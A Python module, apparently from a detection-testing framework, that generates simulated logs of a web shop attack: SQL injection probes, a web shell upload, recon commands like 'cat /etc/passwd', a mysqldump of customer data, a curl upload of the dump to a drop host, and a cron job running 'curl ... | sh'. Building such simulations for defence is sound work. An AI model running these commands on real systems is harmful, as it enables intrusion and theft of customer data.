"""The web shop is exploited: from probing over a web shell to data that leaves."""

from __future__ import annotations

import shlex
from dataclasses import dataclass
from random import Random
from typing import Any

from watchfloor.testing.company.attacks.plan import Attack
from watchfloor.testing.company.clock import MINUTE, SECOND
from watchfloor.testing.company.internet import anywhere
from watchfloor.testing.company.people import Machine
from watchfloor.testing.company.world import World

_AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
_PROBES = (
    "/product/1'", "/product/1%20AND%201=1", "/search?q=a%27%29%20UNION%20ALL%20SELECT%20NULL--%20-", "/admin/",
    "/.git/config", "/search?q=a%27%20AND%20SLEEP(5)--", "/customize/", "/customize/upload.php", "/media/custom/",
    "/customize/upload.php.bak",
)  # fmt: skip
_COMMANDS = (
    "id", "uname -a", "cat /etc/passwd", "ls -la /srv/shop/config", "cat /srv/shop/config/database.php", "ss -tlnp",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class _Scene:
    """What the steps share.

    Attributes:
        world: to act in.
        random: chance of the attack.
        machine: the shop's.
        attacker: address.
        parent: process id of what runs the shop's scripts.
        script: path of the script that is put there.
        drop: host name of where data go.
    """

    world: World
    random: Random
    machine: Machine
    attacker: str
    parent: int
    script: str
    drop: str

    def asked(self, at: int, path: str, **more: Any) -> None:
        """A request of the attacker."""
        self.world.products.shop.request(at, self.attacker, path, agent=_AGENT, **more)


def shop_exploited(world: World, *, day: int, time: str, gigabytes: float, script: str, drop: str) -> Attack:
    """A script is put at the path `script`, and run; so many `gigabytes` leave for the host `drop`."""
    attack = Attack("shop", "The shop is exploited to a web shell, and data leaves", "incident", world)
    random = world.chance("attack:shop")
    attacker = anywhere(random, "NL", "hosting").address
    scene = _Scene(world, random, world.server("shop"), attacker, world.products.linux["shop"].pid(), script, drop)
    at = world.week.at(day, time)
    _probed(attack, scene, at)
    _uploaded(attack, scene, at + 12 * MINUTE)
    _commanded(attack, scene, at + 13 * MINUTE)
    _dumped(attack, scene, at + 22 * MINUTE)
    place = anywhere(random, "NL", "hosting").address
    _left(attack, scene, at + 28 * MINUTE, place, int(gigabytes * 1e9))
    _kept(attack, scene, at + 48 * MINUTE, place)
    return attack


def _probed(attack: Attack, scene: _Scene, at: int) -> None:
    with attack.step(at, "The shop is probed for holes", "T1595.002", scene.attacker, scene.machine.name, told=False):
        for number in range(220):
            path = _PROBES[number % len(_PROBES)]
            status = 200 if path.startswith(("/search", "/customize/upload.php")) and not path.endswith("bak") else 404
            scene.asked(at + number * 1_300_000, path, status=status, size=scene.random.choice((1_190, 9_410)))


def _uploaded(attack: Attack, scene: _Scene, at: int) -> None:
    attacker, host = scene.attacker, scene.machine.name
    with attack.step(
        at, "A script is uploaded in place of a drawing and answers", "T1505.003", attacker, host, scene.script
    ):
        scene.asked(at, "/customize/upload.php", method="POST", size=212)
        scene.world.products.ids.alert(
            at, attacker, scene.machine.address, 443, number=1000071, signature="LOCAL script code in an uploaded file",
            category="Web Application Attack", severity=1,
        )  # fmt: skip
        scene.asked(at + 20 * SECOND, scene.script, size=31)


def _commanded(attack: Attack, scene: _Scene, at: int) -> None:
    what = "Commands are run by the script as the web server's account"
    with attack.step(at, what, "T1059.004", scene.attacker, scene.machine.name, "www-data"):
        for number, command in enumerate(_COMMANDS):
            moment = at + number * 21 * SECOND
            scene.asked(
                moment, f"{scene.script}?c={command.replace(' ', '%20')}", size=scene.random.randrange(80, 2_400)
            )
            _run(scene, moment, command)


def _dumped(attack: Attack, scene: _Scene, at: int) -> None:
    dump = "mysqldump -h 127.0.0.1 -u shop --single-transaction shop customers orders"
    what = "The customers' data are dumped and packed"
    with attack.step(at, what, "T1005", scene.machine.name, "www-data", told=False):
        scene.asked(at, scene.script, method="POST", size=64)
        _run(scene, at, f"sh -c '{dump} > /tmp/.c/d.sql'")
        _run(scene, at + SECOND, dump, exe="/usr/bin/mariadb-dump")
        _run(scene, at + 3 * MINUTE, "tar czf /tmp/.c/d.tgz /tmp/.c/d.sql")


def _left(attack: Attack, scene: _Scene, at: int, place: str, sent: int) -> None:
    products, address = scene.world.products, scene.machine.address
    what = "They leave by curl to a host never spoken to before"
    with attack.step(at, what, "T1048", scene.machine.name, place, scene.drop):
        scene.asked(at, scene.script, method="POST", size=64)
        _run(scene, at, f"curl -s -T /tmp/.c/d.tgz https://{scene.drop}/u/88412")
        products.resolver.query(at, address, scene.drop, millis=61)
        products.ids.tls(at + SECOND, address, place, scene.drop)
        products.firewall.session(at + 11 * MINUTE, address, place, 443, sent=sent, received=sent // 400, seconds=655)


def _kept(attack: Attack, scene: _Scene, at: int, place: str) -> None:
    products, linux = scene.world.products, scene.world.products.linux["shop"]
    what = "A job of the web server's account keeps the way open"
    with attack.step(at, what, "T1053.003", scene.machine.name, "www-data", told=False):
        _run(scene, at, "crontab -", exe="/usr/bin/crontab")
        linux.crontab(at, "www-data")
        for number in range(12):
            moment = at + number * 10 * MINUTE + 7 * SECOND
            linux.cron(moment, "www-data", 33, f"curl -s https://{scene.drop}/k | sh")
            products.resolver.query(moment, scene.machine.address, scene.drop, millis=30)
            products.firewall.session(moment + SECOND, scene.machine.address, place, 443, sent=1_900, received=3_800)


def _run(scene: _Scene, at: int, command: str, *, exe: str = "") -> None:
    """A command by way of a shell, as PHP's system() starts it, or without one where its program is named."""
    name = shlex.split(command)[0]
    if not exe:
        shell = command if name == "sh" else f"sh -c {shlex.quote(command)}"
        _executed(scene, at, shell, "/usr/bin/dash")
    if name != "sh":
        _executed(scene, at + 4_000, command, exe or f"/usr/bin/{name}")


def _executed(scene: _Scene, at: int, command: str, exe: str) -> None:
    linux, folder = scene.world.products.linux["shop"], f"/srv/shop{scene.script.rpartition('/')[0]}"
    linux.executed(at, command, uid=33, user="www-data", exe=exe, folder=folder, parent=scene.parent)
